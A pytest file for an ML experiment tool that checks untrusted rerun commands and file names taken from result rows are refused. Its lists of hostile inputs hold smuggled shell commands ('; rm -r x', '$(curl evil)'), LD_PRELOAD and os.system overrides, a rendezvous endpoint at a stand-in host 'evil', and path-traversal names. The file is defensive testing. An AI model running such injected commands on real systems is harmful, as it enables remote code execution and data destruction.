"""The command of a row that may be from somebody else."""

import json
import shlex
from pathlib import Path

import pytest

from lab import rows
from lab.rerun import rerun_command, rerun_words
from runtime.config import UserError
from runtime.folders import file_name, make_folder

ROOT = Path(__file__).parents[2]
HOSTILE_WORDS = [
    "hydra.run.dir=/tmp/x",
    "hydra.launcher._target_=os.system",
    "+hydra.callbacks.x._target_=os.system",
    "++hydra.searchpath=[file:///tmp]",
    "hydra/launcher=submitit_slurm",
    "hydra/job_logging=none",
    "~hydra.job",
    "+hydra.job.env_set.LD_PRELOAD=x.so",
    "model@hydra.launcher=tiny",
    "--config-dir=/tmp/x",
    "--config-path=/tmp/x",
    "--config-name=x",
    "-cd",
    "--multirun",
    "-m",
    "--",
    "sweep.repeats=2",
    "+sweep=kernels",
    "training=[kernels.norm=/tmp/x.py]",
    "kernels.norm=/tmp/x.py",
    "kernels.norm=out/theirs/x.py",
    "kernels.norm=./x.py",
    "kernels.norm=~/x.py",
    "kernels.norm=kernels/norm/../../out/x.py",
    "kernels.norm='/tmp/x.py'",
    "+kernels.norm=some_package.module",
    "kernels={norm:/tmp/x.py}",
    "attn=path/to/x.py",
    "attn=out.theirs.x",
    "attn.impl=/tmp/x.py",
    "attn={impl:/tmp/x.py}",
    "kernels/../../tmp/x=y",
    "model=../../tmp/x",
    "+experiment=/tmp/x",
    "+experiment=[smoke,../x]",
    "data=../x",
    "data/x=y",
    "seed=${oc.env:HOME}",
    "seed",
    "seed 2=3",
    "; rm -r x",
    "=x",
    "a\x1b[2J=3",
    "seed=\x1b[2J",
]
HOSTILE_COMMANDS = [
    None,
    3,
    ["python", "train.py"],
    {"python": "train.py"},
    "",
    " ",
    "x" * 10**6,
    "python train.py 'a",
    "python",
    "python -c 'import os' train.py",
    "python -m os train.py",
    "python -m scripts.new_kernel name=x",
    "python -m scripts.export path=/tmp/x",
    "python -i train.py",
    "python /bin/sh",
    "sh train.py",
    "/tmp/python train.py",
    "LD_PRELOAD=x.so python train.py",
    "env python train.py",
    "rm -r x train.py",
    "torchrun train.py",
    "torchrun --standalone --nproc_per_node=0 train.py",
    "torchrun --standalone --nproc_per_node=2 --no-python /bin/sh train.py",
    "torchrun --standalone --log-dir=/tmp train.py",
    "torchrun --nnodes=2 --rdzv_backend=c10d --rdzv_endpoint=evil:1 --nproc_per_node=2 train.py",
    "$'\\x63' ; python train.py",
    "python train.py seed=2 ; curl evil",
    "python train.py $(curl evil)",
    *(shlex.join(["python", "train.py", "seed=2", word]) for word in HOSTILE_WORDS),
]
HOSTILE_NAMES = ["../../x", "/tmp/x", "a\0b", "x" * 300, "a\nb", "a\x1b[2J", ".x", "-x", "", ".", "..", None, 3, ["x"]]


@pytest.mark.parametrize("command", HOSTILE_COMMANDS, ids=lambda command: repr(command)[:60])
def test_a_hostile_command_is_refused_in_one_line(command):
    with pytest.raises(UserError) as error:
        rerun_words({"command": command})
    assert "\n" not in str(error.value)
    assert len(str(error.value)) < 500
    assert rerun_command({"command": command}) == ""


def test_every_kept_row_of_a_run_has_a_command_that_may_run_again():
    """Without the keys of one run, it is the row's command, word for word."""
    kept = [path for path in (ROOT / "results").glob("*/*.jsonl") if "command" in path.read_text().partition("\n")[0]]
    count = 0
    for path in kept:
        for row in map(json.loads, path.read_text().splitlines()):
            words = [word for word in shlex.split(row["command"]) if not word.startswith("out_dir=")]
            assert rerun_command(row) == shlex.join(words)
            count += 1
    assert count > 400


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("python /else/train.py out_dir=x train.resume=auto logger=wandb logger.group=x", "python train.py"),
        ("python train.py data.cache=/x train.replicate_to=/y ~attn ++seed=2", "python train.py '~attn' ++seed=2"),
        ("python -m scripts.generate 'prompt=${x} ../ /a.py \n; rm'", None),
        ("python train.py kernels=triton 'kernels.fp8=[linear,mlp]'", None),
        ("python -m scripts.judge op=norm impl=triton -- +experiment=smoke", None),
        ("torchrun --standalone --nproc_per_node=8 -m scripts.max_context data.path=/x/y", None),
    ],
)
def test_the_words_of_a_command(command, words):
    assert rerun_command({"command": command}) == (words or command)


def test_a_kernel_in_the_folder_kernels_is_ours(monkeypatch):
    monkeypatch.chdir(ROOT)
    command = "python train.py kernels.norm=kernels/norm/eager.py attn=kernels/attention/eager.py"
    assert rerun_command({"command": command}) == command


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=lambda name: repr(name)[:20])
def test_a_text_that_cannot_name_a_file(name, tmp_path):
    for call in (lambda: file_name(name), lambda: rows.curve_file(tmp_path, {"name": name, "config": {"seed": 1}})):
        with pytest.raises(UserError, match="cannot name a file: it must be short text without / and control"):
            call()


def test_every_kept_name_can_name_a_file(tmp_path, monkeypatch):
    """The files of curves are those that results/ has."""
    names = set()
    for path in (ROOT / "results").glob("*/*.jsonl"):
        names |= {row["name"] for row in map(json.loads, path.read_text().splitlines()) if "name" in row}
    assert len(names) > 100
    assert all(file_name(name) == name for name in names)
    for path in (ROOT / "results").glob("*/curves/*.jsonl"):
        name, _, seed = path.stem.rpartition("-seed")
        assert rows.curve_file(path.parents[1], {"name": name, "config": {"seed": int(seed)}}) == path
    monkeypatch.chdir(tmp_path)
    with pytest.raises(UserError, match="cannot name a file"):
        make_folder(None, "a/../../b")
